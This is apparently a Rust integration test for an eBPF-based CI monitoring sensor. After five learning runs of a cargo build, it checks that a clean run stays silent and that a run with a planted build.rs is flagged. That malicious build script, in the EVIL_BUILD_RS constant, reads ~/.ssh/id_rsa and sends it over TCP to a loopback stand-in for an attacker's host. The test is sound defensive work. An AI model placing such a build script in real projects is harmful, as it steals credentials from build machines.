//! A real build as the workload: the real sensor (real eBPF) and collector watch a GitHub-Actions-
//! like job that builds a small crate depending on `itoa` from crates.io with cargo. Five runs
//! learn, a sixth identical run must stay silent, and a seventh whose checkout carries a
//! malicious `build.rs` (it reads `~/.ssh/id_rsa` and sends it to a new loopback port, as
//! supply-chain attacks on CI do) must give HIGH deviations that name what it did.
//!
//! The crates.io download happens once into `target/real-build-cache/` (a real `cargo fetch`, as
//! a CI cache restore would provide); every run then builds with `--offline --locked` from a fresh
//! checkout, with a new `GITHUB_RUN_ID`.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use tests::{free_port, wait_for, workspace_bin};

const CARGO_TOML: &str = r#"[package]
name = "hello-build"
version = "0.1.0"
edition = "2021"

[dependencies]
itoa = "=1.0.11"

# Its own workspace, wherever it is checked out (the seed lives under this repository's target/).
[workspace]
"#;

const MAIN_RS: &str = r#"fn main() {
    let mut buf = itoa::Buffer::new();
    println!("{}", buf.format(40 + 2));
}
"#;

/// The attacker's build script: reads the runner's SSH key and posts it to a collector of theirs
/// (a loopback port here).
const EVIL_BUILD_RS: &str = r#"use std::io::Write;
fn main() {
    let home = std::env::var("HOME").unwrap();
    let key = std::fs::read(format!("{home}/.ssh/id_rsa")).unwrap_or_default();
    let port = std::env::var("EXFIL_PORT").unwrap();
    if let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port.parse::<u16>().unwrap())) {
        let _ = s.write_all(b"POST /k HTTP/1.0\r\n\r\n");
        let _ = s.write_all(&key);
    }
}
"#;

/// The job: check out (copy) the sources, build, run the program, as a CI job's steps would.
const JOB: &str = r#"set -euo pipefail
rm -rf "$WS"; mkdir -p "$WS"
cp -r "$CHECKOUT"/. "$WS"/
cd "$WS"
cargo build --offline --locked --quiet
./target/debug/hello-build > out.txt
grep -q 42 out.txt
"#;

const REPO: &str = "acme/real-build";
const WORKLOAD: &str = "github:acme/real-build/ci/build";

/// Kills a child on drop so a failing test leaves nothing running.
struct Guard(Child);
impl Drop for Guard {
    fn drop(&mut self) {
        // SAFETY: signalling our own child; SIGTERM lets the sensor detach its programs.
        unsafe { libc::kill(self.0.id() as i32, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.0.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// PATH with the cargo running this test, and the rustup settings a job with a fake HOME needs.
fn toolchain_env() -> Vec<(String, String)> {
    let mut path = "/usr/bin:/bin".to_owned();
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
    if let Some(dir) = Path::new(&cargo)
        .parent()
        .filter(|d| !d.as_os_str().is_empty())
    {
        path = format!("{}:{path}", dir.display());
    }
    let mut env = vec![("PATH".to_owned(), path)];
    let rustup_home = std::env::var("RUSTUP_HOME")
        .unwrap_or_else(|_| format!("{}/.rustup", std::env::var("HOME").unwrap_or_default()));
    env.push(("RUSTUP_HOME".to_owned(), rustup_home));
    if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
        env.push(("RUSTUP_TOOLCHAIN".to_owned(), t));
    }
    env
}

/// `target/real-build-cache`: CARGO_HOME with `itoa` downloaded, and the seed crate's lock file.
fn prepare_cache(tools: &[(String, String)]) -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    // target/debug/deps/real_build-<hash> → target
    let target = exe.ancestors().nth(3).expect("target dir");
    let cache = target.join("real-build-cache");
    let seed = cache.join("seed");
    std::fs::create_dir_all(seed.join("src")).unwrap();
    std::fs::write(seed.join("Cargo.toml"), CARGO_TOML).unwrap();
    std::fs::write(seed.join("src/main.rs"), MAIN_RS).unwrap();
    let fetch = |offline: bool| {
        let mut cmd = Command::new("cargo");
        cmd.arg("fetch")
            .current_dir(&seed)
            .env_clear()
            .envs(tools.iter().map(|(k, v)| (k, v)))
            .env("HOME", &seed)
            .env("CARGO_HOME", cache.join("cargo-home"))
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        if offline {
            cmd.arg("--offline");
        }
        cmd.status().unwrap().success()
    };
    // A real download from crates.io the first time only.
    assert!(
        fetch(true) || fetch(false),
        "cannot fetch itoa from crates.io into {}",
        cache.display()
    );
    cache
}

fn deviations(server: &str) -> Vec<Value> {
    let out = Command::new(workspace_bin("collector"))
        .args([
            "deviations",
            "--server",
            server,
            "--json",
            "--workload",
            WORKLOAD,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "collector deviations failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .filter(|d: &Value| d["workload"] == WORKLOAD)
        .collect()
}

struct Job {
    dir: PathBuf,
    cache: PathBuf,
    tools: Vec<(String, String)>,
    exfil_port: u16,
}

impl Job {
    /// One run with a fresh checkout (with the malicious build script or without).
    fn run(&self, run_id: u32, malicious: bool) -> Duration {
        let checkout = self.dir.join("checkout");
        let _ = std::fs::remove_dir_all(&checkout);
        std::fs::create_dir_all(checkout.join("src")).unwrap();
        std::fs::write(checkout.join("Cargo.toml"), CARGO_TOML).unwrap();
        std::fs::write(checkout.join("src/main.rs"), MAIN_RS).unwrap();
        std::fs::copy(
            self.cache.join("seed/Cargo.lock"),
            checkout.join("Cargo.lock"),
        )
        .unwrap();
        if malicious {
            std::fs::write(checkout.join("build.rs"), EVIL_BUILD_RS).unwrap();
        }
        let start = Instant::now();
        let out = Command::new("/bin/bash")
            .arg(self.dir.join("job.sh"))
            .env_clear()
            .envs(self.tools.iter().map(|(k, v)| (k, v)))
            .env("CI", "true")
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_REPOSITORY", REPO)
            .env("GITHUB_WORKFLOW", "ci")
            .env("GITHUB_JOB", "build")
            .env("GITHUB_RUN_ID", run_id.to_string())
            .env("HOME", self.dir.join("home"))
            .env("CARGO_HOME", self.cache.join("cargo-home"))
            // As CI caches recommend: no incremental state between runs.
            .env("CARGO_INCREMENTAL", "0")
            .env("CHECKOUT", &checkout)
            .env("WS", self.dir.join("ws"))
            .env("EXFIL_PORT", self.exfil_port.to_string())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "run {run_id} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        start.elapsed()
    }
}

#[test]
fn real_cargo_build_learns_then_catches_a_malicious_build_script() {
    let started = Instant::now();
    let tools = toolchain_env();
    let cache = prepare_cache(&tools);
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN NOT A REAL KEY-----\n").unwrap();
    std::fs::write(dir.path().join("job.sh"), JOB).unwrap();
    // The attacker's endpoint: counts what it receives.
    let exfil = TcpListener::bind("127.0.0.1:0").unwrap();
    let exfil_port = exfil.local_addr().unwrap().port();
    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let sink = std::sync::Arc::clone(&received);
    std::thread::spawn(move || {
        for mut s in exfil.incoming().flatten() {
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            sink.lock().unwrap().extend(buf);
        }
    });

    let port = free_port();
    let server = format!("http://127.0.0.1:{port}");
    let _collector = Guard(
        Command::new(workspace_bin("collector"))
            .args(["serve", "--listen", &format!("127.0.0.1:{port}"), "--db"])
            .arg(dir.path().join("collector.db"))
            .args(["--metrics-listen", ""])
            .stdout(Stdio::null())
            .spawn()
            .unwrap(),
    );
    wait_for("collector to listen", Duration::from_secs(10), || {
        std::net::TcpStream::connect(("127.0.0.1", port)).ok()
    });
    let state = dir.path().join("state");
    let _sensor = Guard(
        Command::new(workspace_bin("sensor"))
            .args(["run", "--collector", &server, "--learning-runs", "5"])
            .args(["--metrics-listen", "", "--state-dir"])
            .arg(&state)
            .spawn()
            .unwrap(),
    );
    wait_for("sensor to attach", Duration::from_secs(30), || {
        std::fs::read_to_string(state.join("status.json")).ok()
    });

    let job = Job {
        dir: dir.path().to_owned(),
        cache,
        tools,
        exfil_port,
    };
    for run in 1..=5 {
        let took = job.run(run, false);
        eprintln!("learning run {run}: {took:?}");
    }
    let took = job.run(6, false);
    eprintln!("clean run 6: {took:?}");
    let took = job.run(7, true);
    eprintln!("malicious run 7: {took:?}");
    assert!(
        !received.lock().unwrap().is_empty(),
        "the malicious build script really sent the key"
    );

    // Deliveries are in order, so once run 7's deviations are stored, run 6's would be too.
    let all = wait_for(
        "HIGH deviations of the malicious run",
        Duration::from_secs(30),
        || {
            let all = deviations(&server);
            let high = |d: &Value| {
                d["run_id"] == "7" && matches!(d["severity"].as_str(), Some("high" | "critical"))
            };
            let secret = all.iter().any(|d| {
                high(d) && d["kind"] == "new-file-access" && d.to_string().contains(".ssh/id_rsa")
            });
            let exfil = all.iter().any(|d| {
                d["run_id"] == "7"
                    && d["kind"] == "new-network-destination"
                    && d["novelty"]["port"] == exfil_port
            });
            (secret && exfil).then_some(all)
        },
    );
    let summary: Vec<String> = all
        .iter()
        .map(|d| {
            format!(
                "run {} {} {}: {}",
                d["run_id"], d["severity"], d["kind"], d["summary"]
            )
        })
        .collect();
    eprintln!("deviations:\n{}", summary.join("\n"));
    for d in &all {
        assert_eq!(
            d["run_id"], "7",
            "learning runs and the clean run 6 report nothing: {d}"
        );
    }
    // The job's baseline (as `sensor baseline list` shows it, once persisted): learnt from the
    // five learning runs, judging since run 6.
    let listed = wait_for(
        "the job's baseline on disk",
        Duration::from_secs(15),
        || {
            let out = Command::new(workspace_bin("sensor"))
                .args(["baseline", "list", "--json", "--state-dir"])
                .arg(&state)
                .output()
                .unwrap();
            String::from_utf8_lossy(&out.stdout)
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|b| b["workload"] == WORKLOAD && b["state"] == "detecting")
        },
    );
    assert_eq!(listed["runs"], 5, "{listed}");
    assert!(listed["behaviours"].as_u64().unwrap() > 50, "{listed}");
    eprintln!("total {:?}", started.elapsed());
}
